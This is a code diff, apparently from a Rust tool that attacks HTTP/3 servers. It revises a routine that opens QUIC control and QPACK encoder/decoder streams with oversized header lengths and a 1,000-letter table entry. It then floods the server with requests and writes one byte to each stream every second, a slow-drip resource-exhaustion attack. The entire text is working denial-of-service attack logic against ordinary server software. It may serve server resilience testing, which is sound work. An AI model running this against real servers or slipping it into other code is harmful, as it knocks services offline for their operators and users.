@@ -29,12 +29,13 @@ fn run(a: &mut Attacker) {
     let head = wire::header(0x01, 10_000);
     let body = [wire::post(a.kind.sink()), wire::header(0x00, 1 << 20)].concat();
     let session = wire::session(a.kind.open_session());
-    let unis = [vec![0x00, 0x04, 0x40], vec![0x02, 0x7f], vec![0x03, 0x7f], vec![0x40]];
+    let control = [vec![0x00], wire::settings(wire::BROWSER), wire::header(0x21, 1 << 20)];
+    // An entry of 1,000 letters; a byte of the decoder stream cancels stream 56.
+    let encoder = [vec![0x02], wire::capacity(4096), wire::instruction(0x40, 5, 1_000)];
+    let unis = [control.concat(), encoder.concat(), vec![0x03], vec![0x40]];
     a.storm(|conn, drip: &mut Drip| {
-        for first in &unis {
-            if drip.streams.len() < 4 {
-                drip.streams.extend(conn.open_uni(first));
-            }
+        if drip.streams.is_empty() {
+            drip.streams.extend(unis.iter().filter_map(|first| conn.open_uni(first)));
         }
         let firsts = [&head, &body, &session];
         while let Some(id) = conn.request(firsts[drip.streams.len() % 3]) {
@@ -44,7 +45,7 @@ fn run(a: &mut Attacker) {
         if drip.last.elapsed() > Duration::from_secs(1) {
             drip.last = Instant::now();
             for id in &drip.streams {
-                conn.write(*id, &[0]);
+                conn.write(*id, b"x");
             }
         }
     });
